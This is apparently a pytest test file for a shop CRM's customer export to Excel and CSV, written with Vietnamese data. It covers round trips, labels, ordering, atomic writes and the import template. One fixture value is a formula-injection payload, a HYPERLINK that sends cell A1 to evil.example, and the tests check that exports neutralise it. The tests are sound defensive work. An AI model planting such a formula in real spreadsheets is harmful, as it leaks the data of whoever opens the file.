"""Exporting customers to .xlsx and .csv: readable back, safe to open, all or nothing."""

from __future__ import annotations

import csv
import datetime as dt
import tempfile
import zipfile

import openpyxl
import pytest

from shopcrm.core import customers
from shopcrm.core.errors import KnownError
from shopcrm.db import connection
from shopcrm.db.models import AuditLog, Customer, CustomerTag, Tag
from shopcrm.db.session import open_database
from shopcrm.io import export

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.fixture
def shop(tmp_path):
    open_database("sqlite:///" + str(tmp_path / "shop.db"))
    an = customers.create({
        "name": "Nguyễn Văn An", "phone": "0912345678", "email": "an@example.com",
        "birthday": dt.date(1990, 12, 25), "gender": "male", "source": "referral",
        "address": "12 Lý Thường Kiệt", "ward": "Phường Hàng Bài", "district": "Quận Hoàn Kiếm",
        "province": "Hà Nội", "notes": "Thích cà phê sữa đá",
    })
    customers.create({"name": INJECTION, "notes": "-1+2", "kind": "organisation"})
    customers.create({"name": "Trần Thị Bích Ngọc", "gender": "female"})
    gone = customers.create({"name": "Đã xoá"})
    customers.trash([gone.id])
    for tag in ("VIP", "Khách sỉ"):
        CustomerTag.create(customer=an, tag=Tag.create(name=tag))
    yield tmp_path
    connection.close()


def read_xlsx(path):
    book = openpyxl.load_workbook(path)
    try:
        return [list(row) for row in book.active.iter_rows()]
    finally:
        book.close()


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def by_header(header_row, row):
    return dict(zip([cell.value if hasattr(cell, "value") else cell for cell in header_row], row))


def test_xlsx_round_trip(shop):
    path = shop / "khach.xlsx"
    assert export.export_customers(path) == 3
    rows = read_xlsx(path)
    assert [cell.value for cell in rows[0]] == list(export.headers())
    assert len(rows) == 4  # header + 3, the one in the trash is left out
    an = next(by_header(rows[0], row) for row in rows[1:] if row[1].value == "Nguyễn Văn An")
    assert an["Mã khách hàng"].value == "KH000001"
    assert an["Điện thoại"].value == "0912345678"
    assert an["Điện thoại"].data_type == "s"
    assert an["Ngày sinh"].value == dt.datetime(1990, 12, 25)  # a real date cell
    assert an["Ngày sinh"].is_date and an["Ngày sinh"].number_format == "DD/MM/YYYY"
    assert an["Ngày tạo"].is_date
    assert an["Ngày tạo"].value.date() in {dt.date.today(), dt.date.today() - dt.timedelta(1)}
    assert an["Giới tính"].value == "Nam"
    assert an["Loại khách"].value == "Cá nhân"
    assert an["Nguồn"].value == "Được giới thiệu"
    assert an["Nhóm khách hàng"].value == "Khách sỉ|VIP"
    assert an["Tỉnh/Thành phố"].value == "Hà Nội"
    assert an["Ghi chú"].value == "Thích cà phê sữa đá"
    assert an["Điện thoại 2"].value is None


def test_xlsx_never_holds_a_formula(shop):
    path = shop / "khach.xlsx"
    export.export_customers(path)
    rows = read_xlsx(path)
    evil = by_header(rows[0], next(row for row in rows if row[1].value == INJECTION))
    assert evil["Tên khách hàng"].data_type == "s"
    assert evil["Tên khách hàng"].quotePrefix
    assert evil["Loại khách"].value == "Tổ chức"
    assert evil["Ghi chú"].value == "-1+2" and evil["Ghi chú"].data_type == "s"
    assert evil["Ghi chú"].quotePrefix
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(n) for n in sheets)


def test_csv_round_trip(shop):
    path = shop / "khach.csv"
    assert export.export_customers(path) == 3
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM for Excel
    rows = read_csv(path)
    assert rows[0] == list(export.headers())
    an = next(by_header(rows[0], row) for row in rows[1:] if row[1] == "Nguyễn Văn An")
    assert an["Điện thoại"] == "0912345678"
    assert an["Ngày sinh"] == "25/12/1990"
    assert an["Giới tính"] == "Nam"
    assert an["Nhóm khách hàng"] == "Khách sỉ|VIP"
    assert an["Email"] == "an@example.com"
    ngoc = next(by_header(rows[0], row) for row in rows[1:] if row[1] == "Trần Thị Bích Ngọc")
    assert ngoc["Giới tính"] == "Nữ" and ngoc["Ngày sinh"] == "" and ngoc["Nguồn"] == ""


def test_csv_neutralises_formulas(shop):
    path = shop / "khach.csv"
    export.export_customers(path)
    rows = read_csv(path)
    evil = by_header(rows[0], next(row for row in rows if INJECTION in row[1]))
    assert evil["Tên khách hàng"] == "'" + INJECTION
    assert evil["Ghi chú"] == "'-1+2"
    assert all(not cell.startswith(export.FORMULA_TRIGGERS) for row in rows for cell in row)


def test_english_headers_and_labels(shop):
    path = shop / "customers.csv"
    export.export_customers(path, language="en")
    rows = read_csv(path)
    assert rows[0][:3] == ["Customer code", "Name", "Phone"]
    an = by_header(rows[0], next(row for row in rows if row[1] == "Nguyễn Văn An"))
    assert (an["Gender"], an["Kind"], an["Source"]) == ("Male", "Individual", "Referral")


def test_selected_ids_in_the_given_order(shop):
    path = shop / "chon.csv"
    assert export.export_customers(path, ids=[3, 1, 999]) == 2
    assert [row[0] for row in read_csv(path)[1:]] == ["KH000003", "KH000001"]
    rows = read_csv(path)
    assert by_header(rows[0], rows[2])["Nhóm khách hàng"] == "Khách sỉ|VIP"


def test_default_order_is_by_name(shop):
    path = shop / "khach.csv"
    export.export_customers(path)
    codes = [row[0] for row in read_csv(path)[1:]]
    expected = [c.code for c in Customer.select().where(Customer.deleted_at.is_null())
                .order_by(Customer.sort_key, Customer.id)]
    assert codes == expected


def test_progress_and_audit(shop):
    Customer.insert_many(
        [{"code": f"X{i:05d}", "name": f"Khách {i}", "phone": f"09{i:08d}"} for i in range(2500)]
    ).execute()
    calls = []
    written = export.export_customers(shop / "many.xlsx",
                                      progress=lambda done, total: calls.append((done, total)))
    assert written == 2503
    assert calls == [(1000, 2503), (2000, 2503), (2503, 2503)]
    assert len(read_xlsx(shop / "many.xlsx")) == 2504
    assert AuditLog.select().where(AuditLog.action == "export").count() == 1


@pytest.fixture
def system_temp(tmp_path, monkeypatch):
    """The system temporary folder, where openpyxl keeps a sheet while writing it."""
    folder = tmp_path / "system-temp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cancel_leaves_no_file(shop, suffix, system_temp):
    path = shop / ("khach" + suffix)
    with pytest.raises(export.Cancelled) as raised:
        export.export_customers(path, cancel=lambda: True)
    assert isinstance(raised.value, KnownError)
    assert str(raised.value) == "Export cancelled; no file was written."
    # Beside the database: its WAL files, and the writer lock and open marker (db.connection).
    assert sorted(p.name for p in shop.iterdir()) == [
        "shop.db", "shop.db-shm", "shop.db-wal", "shop.db.lock", "shop.db.open", "system-temp"]
    assert list(system_temp.iterdir()) == []


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_cancel_late_keeps_an_existing_file(shop, suffix, system_temp):
    path = shop / ("khach" + suffix)
    path.write_bytes(b"last month's export")
    asked = []

    def cancel():
        asked.append(1)
        return len(asked) > 1  # the user cancels after writing has started

    with pytest.raises(export.Cancelled):
        export.export_customers(path, cancel=cancel)
    assert path.read_bytes() == b"last month's export"
    assert sorted(p.name for p in shop.iterdir() if p.name.startswith(".")) == []
    assert list(system_temp.iterdir()) == []


def test_failure_while_writing_keeps_an_existing_file(shop, monkeypatch):
    path = shop / "khach.csv"
    path.write_bytes(b"last month's export")

    def broken(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "_values", broken)
    with pytest.raises(export.ExportError, match="No space left"):
        export.export_customers(path)
    assert path.read_bytes() == b"last month's export"
    assert [p.name for p in shop.iterdir() if p.name.startswith(".")] == []


def test_failure_while_saving_xlsx_keeps_an_existing_file(shop, monkeypatch, system_temp):
    import xlsxwriter

    path = shop / "khach.xlsx"
    path.write_bytes(b"last month's export")

    def full(self):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xlsxwriter.Workbook, "_store_workbook", full)
    with pytest.raises(export.ExportError, match="No space left"):
        export.export_customers(path)
    assert path.read_bytes() == b"last month's export"
    assert [p.name for p in shop.iterdir() if p.name.startswith(".")] == []
    assert list(system_temp.iterdir()) == []  # xlsxwriter's row files are gone too


@pytest.mark.parametrize("name", ["khach.xls", "khach.ods", "khach"])
def test_unknown_suffix(shop, name):
    with pytest.raises(export.ExportError, match=".xlsx or .csv"):
        export.export_customers(shop / name)
    assert not (shop / name).exists()


def test_control_characters_do_not_break_xlsx(shop):
    Customer.create(code="KH900000", name="Bell\x07 và tab\tở giữa", phone="0912345679",
                    search_key="", sort_key="")
    export.export_customers(shop / "khach.xlsx", ids=[5])
    assert read_xlsx(shop / "khach.xlsx")[1][1].value == "Bell và tab\tở giữa"


# -- the workbook of everything: sheets, formats, derived columns -------------------------

@pytest.fixture
def history(shop):
    """Purchases and feedback for An (KH000001) and one purchase of Ngọc (KH000003)."""
    from shopcrm.core import feedback, segments
    from shopcrm.db.models import CareTask, Interaction, Purchase

    Purchase.create(customer=1, date=dt.date(2025, 3, 1), amount=1_250_000, description="Áo dài")
    Purchase.create(customer=1, date=dt.date(2025, 5, 2), amount=350_000, description="=A1",
                    channel="zalo")
    Purchase.create(customer=3, date=dt.date(2024, 1, 9), amount=90_000)
    feedback.add_feedback(1, "praise", rating=5, comment="Rất đẹp")
    feedback.add_feedback(1, "complaint", rating=2, comment="-Giao chậm")
    Interaction.create(customer=1, kind="call", summary="+ hỏi size")
    CareTask.create(customer=3, due_date=dt.date(2025, 6, 1), title="Chúc mừng sinh nhật")
    segments.recompute_all()
    return shop


def test_every_sheet_is_written_with_its_rows(history):
    path = history / "all.xlsx"
    counts = export.export_file(path)
    assert counts == {"customers": 3, "purchases": 3, "interactions": 1, "feedback": 2,
                      "care_tasks": 1}
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Khách hàng", "Mua hàng", "Tương tác", "Phản hồi", "Chăm sóc"]
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])
        assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" \
                                        f"{sheet.max_row}"
        assert sheet.column_dimensions["B"].width >= 20
    rows = [[cell for cell in row] for row in book["Mua hàng"].iter_rows()]
    first = by_header(rows[0], rows[1])
    assert first["Mã khách hàng"].value == "KH000001"  # An comes first (by name), then Ngọc
    assert first["Ngày mua"].is_date and first["Ngày mua"].value == dt.datetime(2025, 3, 1)
    assert first["Số tiền"].value == 1_250_000 and first["Số tiền"].number_format == export.MONEY_FORMAT
    assert first["Kênh bán"].value == "Tại cửa hàng"
    formula = by_header(rows[0], rows[2])["Mô tả"]
    assert formula.value == "=A1" and formula.data_type == "s" and formula.quotePrefix
    book.close()


def test_customer_sheet_carries_the_derived_values(history):
    from shopcrm.core import feedback
    from shopcrm.core.customers import age_group

    path = history / "khach.xlsx"
    export.export_customers(path)
    rows = read_xlsx(path)
    an = next(by_header(rows[0], row) for row in rows[1:] if row[1].value == "Nguyễn Văn An")
    stored = Customer.get_by_id(1)
    labels = export.LABELS["vi"]
    assert an["Nhóm tuổi"].value == labels["age_group"][age_group(stored.birthday)]
    assert an["Phân khúc"].value == labels["funnel_segment"][stored.funnel_segment]
    assert an["Hạng giá trị"].value == labels["value_tier"][stored.value_tier]
    assert an["Số lần mua"].value == 2
    assert an["Tổng chi tiêu"].value == 1_600_000
    assert an["Tổng chi tiêu"].number_format == export.MONEY_FORMAT
    assert an["Lần mua cuối"].value == dt.datetime(2025, 5, 2) and an["Lần mua cuối"].is_date
    assert an["Đánh giá trung bình"].value == feedback.satisfaction_of(1).average == 3.5
    bich = next(by_header(rows[0], row) for row in rows[1:] if row[1].value == INJECTION)
    assert bich["Số lần mua"].value == 0 and bich["Tổng chi tiêu"].value == 0
    assert bich["Lần mua cuối"].value is None and bich["Đánh giá trung bình"].value is None


def test_a_selection_exports_the_records_of_those_customers_only(history):
    path = history / "chon.xlsx"
    assert export.export_file(path, ids=[3]) == {
        "customers": 1, "purchases": 1, "interactions": 0, "feedback": 0, "care_tasks": 1}
    book = openpyxl.load_workbook(path)
    assert [row[0] for row in book["Chăm sóc"].iter_rows(min_row=2, values_only=True)] == [
        "KH000003"]
    book.close()


def test_derived_columns_are_ignored_by_the_import(history):
    from shopcrm.io import mapping

    for language in ("vi", "en"):
        columns = export.headers(language)
        found = mapping.auto_map(list(columns))
        assert {columns[i] for i in found} == {
            header for header, field in zip(columns, export.FIELDS)
            if field not in export.DERIVED_FIELDS and field != "created_at"}
        assert all(found[i] == export.FIELDS[i] for i in found)
        for field in (*export.DERIVED_FIELDS, "created_at"):
            assert mapping.field_for_header(columns[export.FIELDS.index(field)]) == ""


def test_cli_export_counts_rows_per_sheet(history, capsys):
    import json

    from shopcrm import cli

    url = "sqlite:///" + str(history / "shop.db")
    connection.close()
    target = history / "xuat.xlsx"
    assert cli.main(["--db", url, "export", str(target), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["sheets"] == {
        "customers": 3, "purchases": 3, "interactions": 1, "feedback": 2, "care_tasks": 1}


# -- the import template ---------------------------------------------------------------

@pytest.mark.parametrize("language", ["vi", "en"])
def test_template_has_lists_and_imports_a_filled_row(shop, language):
    from shopcrm.io import imports
    from shopcrm.io.template import template_columns, write_template

    path = write_template(shop / "mau.xlsx", language)
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    heads = [cell.value for cell in sheet[1]]
    assert heads == [c.en if language == "en" else c.vi for c in template_columns()]
    assert book.worksheets[1].sheet_state == "hidden"
    lists = {sheet.cell(1, index + 1).value: validation
             for validation in sheet.data_validations.dataValidation
             for index in range(len(heads)) if str(validation.sqref).startswith(
                 sheet.cell(2, index + 1).column_letter + "2")}
    labels = export.LABELS[language]
    for field in ("kind", "gender", "source", "area", "income", "relation"):
        header = heads[[c.field for c in template_columns()].index(field)]
        validation = lists[header]
        assert validation.type == "list"
        column = validation.formula1.rsplit("!", 1)[1].split(":")[0].strip("$").rstrip("$2")
        choices = [row[0] for row in book.worksheets[1].iter_rows(
            min_row=2, min_col=openpyxl.utils.column_index_from_string(column),
            max_col=openpyxl.utils.column_index_from_string(column), values_only=True)
            if row[0] is not None]
        assert choices == [label for label in labels[field].values() if label]
    # the example row imports as it is; then the shop overwrites it with a customer
    assert imports.plan_file(path).error_count == 0
    fields = [c.field for c in template_columns()]
    row = {"name": "Phạm Minh Khôi", "phone": "0977000111", "gender": labels["gender"]["male"],
           "kind": labels["kind"]["organisation"], "org_type": labels["org_type"]["trading"],
           "source": labels["source"]["social"], "area": labels["area"]["rural"],
           "income": labels["income"]["high"], "relation": labels["relation"]["internal"],
           "birthday": dt.date(1985, 4, 30), "role_buyer": labels["bool"][False]}
    for index, field in enumerate(fields, start=1):
        sheet.cell(2, index, row.get(field))
    book.save(path)
    result = imports.run_plan(imports.plan_file(path), "customers")
    assert (result.created, result.rejected) == (1, 0)
    khoi = Customer.get(Customer.name == "Phạm Minh Khôi")
    assert (khoi.gender, khoi.kind, khoi.org_type, khoi.source, khoi.area, khoi.income,
            khoi.relation, khoi.birthday, khoi.role_buyer, khoi.phone) == (
        "male", "organisation", "trading", "social", "rural", "high", "internal",
        dt.date(1985, 4, 30), False, "0977000111")
